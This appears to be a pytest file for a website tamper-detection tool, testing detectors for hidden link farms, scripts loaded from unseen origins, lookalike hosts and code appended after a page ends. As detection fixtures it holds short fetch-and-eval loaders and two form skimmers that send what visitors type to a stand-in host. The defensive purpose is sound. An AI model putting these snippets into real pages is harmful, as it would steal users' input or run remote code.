"""Hiding places added for issue 10: CSS that removes, shrinks or clears a box, style sheets
written into the page as data: addresses, closed dialogs and details, never-rendered markup
(templates, frames of no size), and where a page's inline code runs what it quotes."""

from __future__ import annotations

import html
from urllib.parse import quote

import pytest
from selectolax.lexbor import LexborHTMLParser

from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
from tamperwatch.detect.hidden_links import HiddenLinksDetector
from tamperwatch.detect.hiding import hiding_method
from tamperwatch.detect.inert import inert_documents
from tamperwatch.detect.inline_loads import PLAIN, QUOTED, SKIMMER, inline_loads
from tamperwatch.detect.resources import foreign_resources

from .synthetic import news_page, page
from .test_foreign_injection import rotating_part
from .test_hidden_links import learned, spam_block

ANCHORS = "".join(f'<a href="https://w{i}.shop{i}.example/">Blaue Tasse {i}</a>' for i in range(12))


def first(markup: str, tag: str = "div") -> str:
    node = LexborHTMLParser(markup).css_first(tag)
    assert node is not None
    return hiding_method(node)


@pytest.mark.parametrize(
    "style",
    [
        "filter:opacity(0);position:absolute",
        "filter: blur(1px) opacity(0%)",
        "scale:0;position:absolute",
        "inline-size:0;block-size:0;overflow:clip",
        "clip-path:polygon(0 0,0 0,0 0);position:absolute",
        "clip-path: polygon(5px 5px, 5px 5px, 5px 5px, 5px 5px)",
    ],
)
def test_a_box_shrunk_cleared_or_clipped_to_nothing_is_hidden(style: str) -> None:
    assert first(f'<div style="{style}">x</div>') != ""


@pytest.mark.parametrize(
    "style",
    [
        "filter:opacity(0.8)",
        "scale:1.2",
        "inline-size:200px",
        "clip-path:polygon(0 0,100% 0,100% 100%)",
        "filter:grayscale(1)",
    ],
)
def test_ordinary_filters_scales_sizes_and_clips_do_not_hide(style: str) -> None:
    assert first(f'<div style="{style}">x</div>') == ""


def test_closed_dialogs_and_details_without_a_summary_are_hidden_open_ones_are_not() -> None:
    assert first("<dialog><p>x</p></dialog>", "dialog") == "closed dialog"
    assert first("<dialog open><p>x</p></dialog>", "dialog") == ""
    assert first("<details><summary></summary>x</details>", "details") != ""
    assert first("<details><summary>Frequently asked</summary>x</details>", "details") == ""
    assert first("<details open><summary></summary>x</details>", "details") == ""


@pytest.mark.parametrize(
    "sheet",
    [
        '<link rel="stylesheet" href="data:text/css,{css}">',
        '<style>@import url("data:text/css,{css}");</style>',
    ],
)
def test_a_style_sheet_written_into_the_page_as_a_data_address_is_read(sheet: str) -> None:
    css = quote(".farm{position:absolute;top:-200vh;height:0;overflow:hidden}")
    det = HiddenLinksDetector()
    block = sheet.format(css=html.escape(css)) + f'<section class="farm">{ANCHORS}</section>'
    [finding] = det.detect(learned(det), page(news_page(4, footer_extra=block)))
    assert "stylesheet rule .farm" in finding.reason


def test_a_class_rule_painting_text_in_its_background_colour_hides_it() -> None:
    det = HiddenLinksDetector()
    rule = "<style>.pm-1,.pm-1 a{color:#fdfdfd;background-color:#fdfdfd;font-size:10px}</style>"
    [finding] = det.detect(learned(det), page(news_page(4, footer_extra=rule + spam_block('class="pm-1"'))))
    assert "colour equal to its background" in finding.reason


@pytest.mark.parametrize(
    ("markup", "how"),
    [
        (f"<template>{ANCHORS}</template>", "template"),
        (f'<iframe width="0" height="0" srcdoc="{html.escape(ANCHORS)}"></iframe>', "frame of no size"),
        (f'<iframe style="display:none" srcdoc="{html.escape(ANCHORS)}"></iframe>', "frame of no size"),
    ],
)
def test_a_link_farm_in_markup_that_is_never_rendered_is_a_hidden_block(markup: str, how: str) -> None:
    det = HiddenLinksDetector()
    [finding] = det.detect(learned(det), page(news_page(4, body_extra=markup)))
    assert how in finding.reason and "12 links to 12 unseen domains" in finding.reason


def test_never_rendered_links_the_trusted_history_already_had_raise_nothing() -> None:
    det = HiddenLinksDetector()
    part: dict[str, object] = {}
    for day in range(3):
        det.learn_trusted(part, page(news_page(day, body_extra=f"<template>{ANCHORS}</template>")))
    assert det.detect(part, page(news_page(4, body_extra=f"<template>{ANCHORS}</template>"))) == []
    # a frame people see is not hidden
    shown = f'<iframe width="300" height="250" srcdoc="{html.escape(ANCHORS)}"></iframe>'
    assert inert_documents(page(news_page(4, body_extra=shown))) == []


EVIL = "https://lib.unseen-origin.example/assets/vendor.min.js"


@pytest.mark.parametrize(
    "code",
    [
        f"import('{EVIL}').catch(function(){{}});",
        f"navigator.serviceWorker.register('/sw.js?i='+encodeURIComponent('{EVIL}'));",
        f"fetch('{EVIL}').then(function(r){{return r.text()}}).then(function(s){{(0,eval)(s)}});",
        f"new Worker('{EVIL}');",
    ],
)
def test_a_small_script_that_runs_code_loads_what_it_quotes(code: str) -> None:
    found = inline_loads(LexborHTMLParser(f"<script>{code}</script>"))
    assert (EVIL, PLAIN) in found


def test_a_long_configuration_that_lists_script_addresses_only_quotes_them() -> None:
    config = "window.cfg={" + ",".join(f'"k{i}":"value number {i} of the config"' for i in range(40))
    code = f'{config},"lazy":"{EVIL}"}};function boot(){{document.createElement("div")}}'
    assert (EVIL, QUOTED) in inline_loads(LexborHTMLParser(f"<script>{code}</script>"))


def test_an_object_from_a_host_named_like_a_well_known_one_is_strong_everywhere() -> None:
    det = ForeignInjectionDetector()
    tag = '<object data="https://gogle-analytics.net/o.js" width="0" height="0"></object>'
    [finding] = det.detect(rotating_part(det), page(news_page(4, body_extra=tag)))
    assert finding.score >= 0.8 and "named like google-analytics.com" in finding.reason


@pytest.mark.parametrize(
    "code",
    [
        "document.addEventListener('change',function(e){var t=e.target;"
        f"navigator.sendBeacon('{EVIL}',JSON.stringify({{k:t.name,v:t.value}}))}},true);",
        f"var k=new WebSocket('{EVIL.replace('https', 'wss')}');document.addEventListener('keyup',"
        "function(e){if(e.target.form)k.send(e.target.name+'='+e.target.value)});",
    ],
)
def test_code_that_listens_to_what_visitors_type_and_sends_it_away_is_a_skimmer(code: str) -> None:
    found = inline_loads(LexborHTMLParser(f"<script>{code}</script>"))
    assert found and all(how == SKIMMER for _, how in found)


def test_a_search_box_that_reads_its_value_without_sending_it_is_no_skimmer() -> None:
    code = "q.addEventListener('input',function(e){show(e.target.value.trim())});"
    assert inline_loads(LexborHTMLParser(f"<script>{code}</script>")) == []


def test_a_script_preloaded_from_an_unseen_origin_is_a_script_resource() -> None:
    tags = (
        f'<link rel="preload" as="script" href="{EVIL}">'
        '<link rel="preload" as="image" href="https://img.unseen-origin.example/a.png">'
        '<link rel="modulepreload" href="https://mod.other-origin.example/m.js">'
    )
    found = {(r.kind, r.domain) for r in foreign_resources(page(news_page(4, head_extra=tags)))}
    assert ("script", "unseen-origin.example") in found
    assert ("script", "other-origin.example") in found
    assert not any(kind == "stylesheet" and dom == "unseen-origin.example" for kind, dom in found)


def test_code_appended_after_the_end_of_the_document_is_strong_evidence() -> None:
    """A content system renders a whole document; code written after its </html> (or before its
    <html>) was appended to the file. Strong even where vendors rotate, unless the site's own
    trusted captures carried code there."""
    det = ForeignInjectionDetector()
    tag = '<script async id="w" src="https://widgets.vendorname.example/w.js"></script>'
    appended = news_page(4) + f"\n{tag}\n"
    [finding] = det.detect(rotating_part(det), page(appended))
    assert finding.score >= 0.7 and "outside the document" in finding.reason
    inside = news_page(4, body_extra=tag)
    [weak] = det.detect(rotating_part(det), page(inside))
    assert weak.score < 0.5 and "outside the document" not in weak.reason
    host: dict[str, object] = {}
    for day in range(3):  # a host that appends its own counter to every page
        det.learn_trusted(
            host, page(news_page(day) + '<script src="https://count.host.example/c.js"></script>')
        )
    [usual] = det.detect(host, page(appended))
    assert usual.score < 0.7
